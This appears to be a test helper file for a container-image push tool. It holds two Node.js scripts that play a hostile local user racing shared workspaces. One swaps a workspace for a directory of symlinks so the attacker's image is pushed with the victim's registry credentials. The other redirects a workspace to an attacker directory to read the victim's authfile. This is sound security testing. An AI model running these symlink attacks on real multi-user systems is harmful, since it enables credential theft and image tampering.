/**
 * What another local user can do to a shared directory she controls, as Node.js scripts to run as her
 * (`startNodeScriptAsUser`). Each prints JSON lines: `{"event":"ready"}` once watching, then one event
 * per workspace it attacked. They only use rights the user has; against a directory she cannot write,
 * they do nothing.
 */

const WATCH_LOOP = `
import { chmodSync, copyFileSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";
const say = (event) => process.stdout.write(JSON.stringify(event) + "\\n");
const seen = new Set();
const nap = new Int32Array(new SharedArrayBuffer(4));
const watch = (attack, each = () => {}) => {
  say({ event: "ready" });
  for (;;) {
    each();
    let names = [];
    try { names = readdirSync(shared); } catch (error) { say({ event: "cannot-read", error: String(error) }); }
    for (const name of names) {
      if (!name.startsWith("skopush-") || seen.has(name)) continue;
      let info;
      try { info = lstatSync(join(shared, name)); } catch { continue; }
      if (!info.isDirectory()) { seen.add(name); continue; }
      if (attack(name, info)) seen.add(name);
    }
    Atomics.wait(nap, 0, 0, 1);
  }
};
`;

/**
 * Swaps each new push workspace for one of hers once the push has filled it (its `tmp/` and `certs/` exist,
 * so the archive and the authfile are in): renames it to `.stolen-<name>`, and puts in its place a
 * directory holding her archive, with relative links to the victim's authfile, cert dir and tmp (they
 * resolve alike on the host and in the container). skopeo then pushes her image with the victim's
 * credentials under the victim's tag. Args: the shared directory, her archive.
 */
export const SWAP_WORKSPACES_SCRIPT = `${WATCH_LOOP}
const [shared, archive] = process.argv.slice(1);
watch((name, info) => {
  if (info.nlink < 4) return false;
  const stolen = ".stolen-" + name;
  try {
    renameSync(join(shared, name), join(shared, stolen));
    mkdirSync(join(shared, name));
    chmodSync(join(shared, name), 0o777);
    for (const entry of ["auth.json", "certs", "tmp"]) symlinkSync("../" + stolen + "/" + entry, join(shared, name, entry));
    copyFileSync(archive, join(shared, name, "archive"));
    say({ event: "swapped", workspace: name });
  } catch (error) {
    say({ event: "failed", workspace: name, error: String(error) });
  }
  return true;
});
`;

/**
 * Replaces each new push workspace, as soon as it appears, by a link to a directory of hers, so that what
 * the push puts there (a hard link to its archive, its authfile) lands where she can read it; reports
 * every file she then finds there. Args: the shared directory, her directory.
 */
export const LINK_WORKSPACES_SCRIPT = `${WATCH_LOOP}
const [shared, mine] = process.argv.slice(1);
const found = new Set();
watch((name) => {
  try {
    renameSync(join(shared, name), join(shared, ".moved-" + name));
    symlinkSync(mine, join(shared, name));
    say({ event: "linked", workspace: name });
  } catch (error) {
    say({ event: "failed", workspace: name, error: String(error) });
  }
  return true;
}, () => {
  for (const entry of readdirSync(mine, { recursive: true })) {
    const path = join(mine, String(entry));
    if (found.has(path)) continue;
    try {
      if (!lstatSync(path).isFile()) continue;
      const bytes = readFileSync(path).length;
      found.add(path);
      say({ event: "read", file: path, bytes });
    } catch {}
  }
});
`;
